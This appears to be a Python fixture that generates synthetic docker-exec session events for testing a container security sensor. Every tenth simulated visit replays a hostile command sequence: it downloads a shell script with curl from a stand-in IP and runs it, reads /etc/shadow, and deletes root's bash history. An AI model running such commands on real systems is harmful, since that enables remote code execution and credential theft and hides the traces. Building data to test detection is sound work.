# SPDX-License-Identifier: Apache-2.0
"""A fleet's ordinary day as events of one host: visits with their commands, and what the runtime said of each.

Nine of ten visits are somebody's work, one looks like an adversary's. Half come as root, which alone is a low alert.
Each has one record: three of eight before the entry, four after it, and one some hundred events late.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

CONTAINERS = 50
LATE_EACH = 8
LATE_TOGETHER = 50
BOOT = "00000000-0000-4000-8000-000000000000"
CAPS = "00000000a80425fb"

_WORK = (
    ("/bin/ls", "ls -la /srv/app"),
    ("/usr/bin/tail", "tail -n 100 /var/log/app/current"),
    ("/bin/ps", "ps aux"),
    ("/usr/bin/psql", "psql -h db -U app -c 'select count(*) from orders'"),
    ("/bin/cat", "cat /srv/app/config.yaml"),
    ("/usr/bin/python3", "python3 manage.py migrate --check"),
    ("/bin/df", "df -h"),
    ("/bin/grep", "grep -rn timeout /srv/app"),
    ("/usr/bin/top", "top -b -n 1"),
    ("/bin/sh", "sh -c 'cd /srv/app && ./bin/reindex --since yesterday | head -n 5'"),
)
_TROUBLE = (
    ("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh"),
    ("/bin/sh", "sh /tmp/x.sh"),
    ("/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/id", "id"),
    ("/bin/rm", "rm -f /root/.bash_history"),
)


def events(host: str, sessions: int, first: int = 1) -> Iterator[dict[str, Any]]:
    """So many visits, from that number on, in the order in which a sensor would send them."""
    late: list[dict[str, Any]] = []
    if first == 1:
        yield record(host, 0, "source_up")
    for number in range(first, first + sessions):
        opening, *rest = visit(host, number)
        told = record(host, number, "exec_start")
        if number % LATE_EACH == 0:
            late.append(told)
            yield opening
        else:
            yield from (told, opening) if number % 2 else (opening, told)
        yield from rest
        if len(late) == LATE_TOGETHER:
            yield from late
            late.clear()
    yield from late


def visit(host: str, number: int) -> Iterator[dict[str, Any]]:
    """An entry by `docker exec`, three to five commands, and the end of it all."""
    lines = (
        _TROUBLE
        if number % 10 == 0
        else [_WORK[(number + each) % len(_WORK)] for each in range(3 + number % 3)]
    )
    process = _process(number, "/bin/sh", "sh", 0)
    yield {
        **_head(host, number, 0),
        "kind": "entry",
        "means": "docker-exec",
        "namespaces": ["mnt", "pid", "net", "ipc", "uts"],
        "verdict": "both",
        "ns_container": _container(number)["id"],
        "cgroup_container": _container(number)["id"],
        "container": _container(number),
        "process": process,
        "entered_by": _outside("runc", "/usr/bin/runc"),
        "ancestry": [
            _outside("runc", "/usr/bin/runc"),
            _outside("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
        ],
        "login": None,
        "exec_id": _exec(number),
        "witnessed": True,
        "missing": {},
    }
    for at, (exe, line) in enumerate(lines, 1):
        yield {
            **_head(host, number, at),
            "kind": "command",
            "process": _process(number, exe, line, at),
            "parent": process["pid"],
            "missing": {},
        }
    end = {"code": 0, "signal": None, "duration": 1_000_000, "commands": len(lines)}
    yield {**_head(host, number, 1 + len(lines)), "kind": "session_end", **end}


def record(host: str, number: int, action: str) -> dict[str, Any]:
    """What docker said of the exec of a visit, or that it is listened to."""
    now, about = time.time_ns(), action == "exec_start"
    return {
        "id": f"{host}/{BOOT}/{number * 16 + 15}",
        "time": now - (0 if about else 10**12),
        "mono": number,
        "kind": "record",
        "source": "docker",
        "place": "/run/docker.sock",
        "key": f"{number:032x}",
        "action": action,
        "owner": 0,
        "container_id": _container(number)["id"] if about else None,
        "exec_id": _exec(number) if about else None,
        "pid": None,
        "command": "sh" if about else None,
        "code": None,
        "read": now,
        "detail": {},
    }


def _head(host: str, number: int, offset: int) -> dict[str, Any]:
    sequence = number * 16 + offset
    return {
        "id": f"{host}/{BOOT}/{sequence}",
        "time": time.time_ns(),
        "mono": sequence * 1_000_000,
        "session": f"{host}/{BOOT}/{number * 16}",
    }


def _exec(number: int) -> str:
    return f"{number:064x}"


def _container(number: int) -> dict[str, Any]:
    at = number % CONTAINERS
    return {
        "id": f"{at + 1:064x}",
        "name": f"web-{at}",
        "image": "registry.example/shop/web:1.8",
        "runtime": "docker",
        "labels": {"com.docker.compose.project": "shop", "com.docker.compose.service": "web"},
        "pod": None,
        "init_pid": 5,
        "user": "" if at % 2 else "app",
        "caps": CAPS,
        "privileged": False,
    }


def _outside(comm: str, exe: str) -> dict[str, Any]:
    return {"pid": 7, "start": 7, "comm": comm, "exe": exe, "argv": [comm], "uid": 0, "side": "host"}


def _process(number: int, exe: str, line: str, at: int) -> dict[str, Any]:
    root = number % 2 == 1
    return {
        "pid": number * 16 + at,
        "ppid": 7,
        "start": number * 16 + at,
        "comm": exe.rpartition("/")[2][:15],
        "exe": exe,
        "filename": exe,
        "argv": line.split(" ", 2) if " -c " in line else line.split(),
        "argv_cut": False,
        "argv_redacted": False,
        "cwd": "/srv/app",
        "uid": 0 if root else 1000,
        "gid": 0 if root else 1000,
        "user": "root" if root else "app",
        "caps": CAPS if root else "0000000000000000",
        "tty": None,
    }
